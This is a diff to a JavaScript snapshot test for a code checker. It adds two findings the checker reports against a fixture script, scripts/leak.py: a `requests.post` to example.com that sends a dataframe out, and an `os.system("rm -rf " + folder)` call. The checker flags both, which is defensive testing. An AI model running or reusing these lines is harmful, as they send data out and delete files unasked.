@@ -53,6 +53,20 @@ describe('in a terminal', () => {
           |     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
         help: The run has no network: ask for the data as a dataset.
 
+      scripts/leak.py:5:2: low[request-without-timeout]
+        \`requests.post\` waits for as long as the server likes.
+        4 | def send(frame):
+        5 |     requests.post("https://example.com/in", data=frame.to_csv())
+          |     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
+        help: Pass \`timeout=10\`.
+
+      scripts/leak.py:8:1: high[destructive-command]
+        The command deletes a folder with all that is in it.
+        7 | send(bonds)
+        8 | os.system("rm -rf " + folder)
+          | ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
+        help: Name what is to be changed, in Python, and ask before.
+
       scripts/leak.py:8:1: critical[process-started]
         \`os.system\` starts another program.
         7 | send(bonds)
@@ -75,7 +89,7 @@ describe('in a terminal', () => {
           | ^^^^^^^^^^
         help: Loop over what is to be worked on, or leave by \`break\` or \`return\`.
 
-      5 findings in 1 of 2 files: 1 critical, 3 high, 1 medium.
+      7 findings in 1 of 2 files: 1 critical, 4 high, 1 medium, 1 low.
       "
     `)
   })
